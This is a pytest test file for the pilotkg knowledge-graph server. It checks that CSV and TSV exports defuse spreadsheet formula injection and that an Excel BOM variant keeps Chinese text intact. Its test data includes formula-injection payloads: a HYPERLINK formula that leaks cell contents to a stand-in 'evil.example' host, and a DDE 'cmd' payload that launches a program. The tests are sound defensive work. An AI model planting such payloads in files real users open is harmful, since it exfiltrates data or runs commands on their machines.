"""Spreadsheet-safe CSV and TSV: a cell that a spreadsheet would run as a formula is
neutralised (a leading ``'``, and quoted in CSV) wherever pilotkg writes CSV or TSV
(``/sparql``, ``/queries/NAME.csv``, ``pilotkg query --output csv|tsv``), numbers are left
alone, and ``bom=1`` gives the UTF-8-with-BOM variant Excel needs for Chinese.

The rules are in ``graph/tabular.py``; the SPARQL results are read back with Python's
``csv`` module and rdflib's TSV parser, as a program would."""

from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

import pytest
from rdflib import Literal, URIRef
from rdflib.query import Result

from support import serving

from pilotkg.graph.tabular import csv_cell, runs_as_formula

BOM = b"\xef\xbb\xbf"
XSD = "http://www.w3.org/2001/XMLSchema#"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\uff1d1+1",
             "-INF", "+86 28 1234 5678"]
NUMBERS = ["-5", "+3.2e4", "-0.5", ".5E-3", "42", "+7"]


def sparql_string(text: str) -> str:
    """``text`` as a SPARQL string literal."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n")
    return f'"{escaped}"'


def values_query(texts: list[str]) -> str:
    return "SELECT ?x WHERE { VALUES ?x { " + " ".join(sparql_string(t) for t in texts) + " } }"


@pytest.fixture(scope="module")
def app(built):
    with serving(built.data_dir, query_timeout=10) as application:
        yield application


@pytest.fixture
def client(app):
    return app.test_client()


def get(client, query: str, fmt: str, **params):
    response = client.get("/sparql?" + urlencode({"query": query, "format": fmt, **params}))
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def csv_column(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert len(rows[0]) == 1
    return [row[0] for row in rows[1:]]


def tsv_column(body: bytes) -> list:
    return [row[0] for row in Result.parse(io.StringIO(body.decode("utf-8")), format="tsv")]


# --- the rule ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_each_dangerous_start_is_neutralised(text):
    assert runs_as_formula(text)
    cell = csv_cell(text)
    assert cell.startswith("\"'") and cell.endswith('"')


@pytest.mark.parametrize("text", NUMBERS + ["", "plain", "成都市", "a=b", " =1", "'=x", "<http://x>", "_:b0"])
def test_numbers_and_ordinary_text_are_untouched(text):
    assert not runs_as_formula(text)
    assert csv_cell(text) == text


# --- /sparql ----------------------------------------------------------------------------------------


def test_the_hyperlink_label_of_the_issue_is_text_in_csv_and_tsv(client):
    query = 'SELECT ?x WHERE { BIND("=HYPERLINK(\\"http://evil\\")" AS ?x) }'
    body = get(client, query, "csv").data
    assert body == b'x\r\n"\'=HYPERLINK(""http://evil"")"\r\n'
    assert csv_column(body) == ['\'=HYPERLINK("http://evil")']
    tsv = get(client, query, "tsv").data.decode("utf-8")
    assert tsv == '?x\n"\'=HYPERLINK(\\"http://evil\\")"\n'
    assert tsv_column(tsv.encode()) == [Literal('\'=HYPERLINK("http://evil")')]


def test_every_dangerous_leading_character_in_csv(client):
    cells = csv_column(get(client, values_query(DANGEROUS), "csv").data)
    assert cells == ["'" + text for text in DANGEROUS]


def test_every_dangerous_leading_character_in_tsv(client):
    # In TSV a tab or CR inside a literal is written \t or \r, so only =, +, -, @ (and the
    # full-width forms) can start a cell once a spreadsheet has dropped the quotes.
    body = get(client, values_query(DANGEROUS), "tsv").data
    lines = body.decode("utf-8").splitlines()[1:]
    assert lines[4:6] == ['"\\t=1+1"', '"\\r=1+1"']  # no cell starts with a raw tab or CR
    for line, text in zip(lines, DANGEROUS):
        inside = line[1:]  # what a spreadsheet sees after dropping the opening quote
        assert not inside.startswith(tuple("=+-@\uff1d")), line
    values = [str(v) for v in tsv_column(body)]
    expected = ["'" + t if t[0] not in "\t\r" else t for t in DANGEROUS]
    assert values == expected


def test_language_and_datatype_stay_when_tsv_neutralises(client):
    query = ('SELECT ?a ?b WHERE { BIND("=1+1"@zh AS ?a) '
             'BIND(STRDT("@x", <http://example.org/dt>) AS ?b) }')
    line = get(client, query, "tsv").data.decode("utf-8").splitlines()[1]
    assert line == '"\'=1+1"@zh\t"\'@x"^^<http://example.org/dt>'


def test_numbers_are_untouched(client):
    query = ('SELECT ?i ?d ?e ?s ?t WHERE { BIND(-5 AS ?i) BIND(-2.50 AS ?d) '
             f'BIND(STRDT("+3.2e4", <{XSD}double>) AS ?e) BIND("+3.2e4" AS ?s) BIND("-7" AS ?t) }}')
    row = get(client, query, "csv").data.decode("utf-8").splitlines()[1]
    assert row == "-5,-2.5,32000,+3.2e4,-7"  # the store keeps doubles in canonical form
    tsv_row = get(client, query, "tsv").data.decode("utf-8").splitlines()[1]
    # integers bare (a spreadsheet reads them as numbers), decimals and doubles in full (rdflib
    # cannot read a bare -2.5), strings quoted; none gets a quote mark
    assert tsv_row == f'-5\t"-2.5"^^<{XSD}decimal>\t"32000"^^<{XSD}double>\t"+3.2e4"\t"-7"'
    parsed = list(Result.parse(io.StringIO(get(client, query, "tsv").data.decode("utf-8")), format="tsv"))[0]
    assert [v.toPython() for v in parsed[:3]] == [-5, pytest.approx(-2.5), 32000.0]


def test_iris_and_blank_nodes_are_untouched(client):
    query = "SELECT ?s WHERE { ?s a pk:PilotZone } ORDER BY ?s LIMIT 3"
    cells = csv_column(get(client, query, "csv").data)
    assert all(c.startswith("https://w3id.org/pilotkg/id/zone/") for c in cells) and len(cells) == 3
    iris = tsv_column(get(client, query, "tsv").data)
    assert all(isinstance(i, URIRef) for i in iris)


def test_json_and_xml_keep_the_exact_value(client):
    query = 'SELECT ?x WHERE { BIND("=1+1" AS ?x) }'
    data = get(client, query, "json").get_json()
    assert data["results"]["bindings"][0]["x"]["value"] == "=1+1"
    assert b"<literal>=1+1</literal>" in get(client, query, "xml").data


# --- the BOM variant ----------------------------------------------------------------------------------

CHINESE = 'SELECT ?name WHERE { <https://w3id.org/pilotkg/id/division/510100> rdfs:label ?name FILTER(LANG(?name) = "zh") }'


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_bom_on_sparql_starts_with_the_byte_order_mark_and_keeps_chinese(client, fmt):
    plain = get(client, CHINESE, fmt).data
    excel = get(client, CHINESE, fmt, bom="1").data
    assert not plain.startswith(BOM)
    assert excel == BOM + plain
    assert "成都市" in excel[3:].decode("utf-8")
    response = client.get("/sparql?" + urlencode({"query": CHINESE, "format": "json", "bom": "1"}))
    assert response.status_code == 400 and "CSV and TSV" in response.get_data(as_text=True)


# --- example queries ----------------------------------------------------------------------------------


@pytest.fixture
def evil_examples(app, tmp_path, monkeypatch):
    """An example query whose rows start with formulas, in place of the real ones."""
    from pilotkg.server.views import queries as view

    (tmp_path / "labels.rq").write_text(
        "#+ title: Labels\n#+ description: Labels that look like formulas.\n" + values_query(DANGEROUS + NUMBERS) + "\n",
        encoding="utf-8")
    monkeypatch.setattr(view, "queries_dir", lambda: tmp_path)
    app.extensions.pop("pilotkg.examples", None)
    yield
    app.extensions.pop("pilotkg.examples", None)


def test_example_query_csv_downloads_are_neutralised(client, evil_examples):
    response = client.get("/queries/labels.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert csv_column(response.data) == ["'" + t for t in DANGEROUS] + NUMBERS
    excel = client.get("/queries/labels.csv?bom=1")
    assert excel.status_code == 200 and excel.data == BOM + response.data
    assert excel.headers["Content-Disposition"] == 'attachment; filename="pilotkg-labels.csv"'


def test_example_query_csv_for_excel_keeps_chinese(client):
    params = urlencode({"province": "https://w3id.org/pilotkg/id/division/510000"})
    plain = client.get(f"/queries/zones-in-province.csv?{params}")
    excel = client.get(f"/queries/zones-in-province.csv?{params}&bom=1")
    assert plain.status_code == excel.status_code == 200
    assert excel.data.startswith(BOM) and excel.data[3:] == plain.data
    assert "成都市" in excel.data[3:].decode("utf-8")
    assert client.get(f"/queries/zones-in-province.csv?{params}&bom=maybe").status_code == 400


def test_the_pages_link_to_csv_for_excel(app):
    site = app.test_client()
    site.environ_base["HTTP_ACCEPT"] = "text/html"
    params = urlencode({"province": "https://w3id.org/pilotkg/id/division/510000"})
    page = site.get(f"/queries/zones-in-province?{params}").get_data(as_text=True)
    assert f'id="download-csv-excel" href="/queries/zones-in-province.csv?{params.replace("&", "&amp;")}&amp;bom=1"' in page
    assert "CSV for Excel" in page
    index = site.get("/queries").get_data(as_text=True)
    assert 'href="/queries/zones-in-province.csv?bom=1"' in index
    editor = site.get("/sparql").get_data(as_text=True)
    assert 'id="download-csv-excel"' in editor and "CSV for Excel" in editor
    script = site.get("/static/js/editor.js").get_data(as_text=True)
    assert '["bom", "1"]' in script


# --- the command line ---------------------------------------------------------------------------------


def test_cli_query_csv_and_tsv_are_neutralised_too(run_cli):
    query = values_query([HYPERLINK, "-5"])
    out = run_cli("query", "--output", "csv", query)
    assert out.returncode == 0
    assert csv_column(out.stdout.encode("utf-8")) == ["'" + HYPERLINK, "-5"]
    out = run_cli("query", "--output", "tsv", query)
    assert out.returncode == 0
    assert [str(v) for v in tsv_column(out.stdout.encode("utf-8"))] == ["'" + HYPERLINK, "-5"]
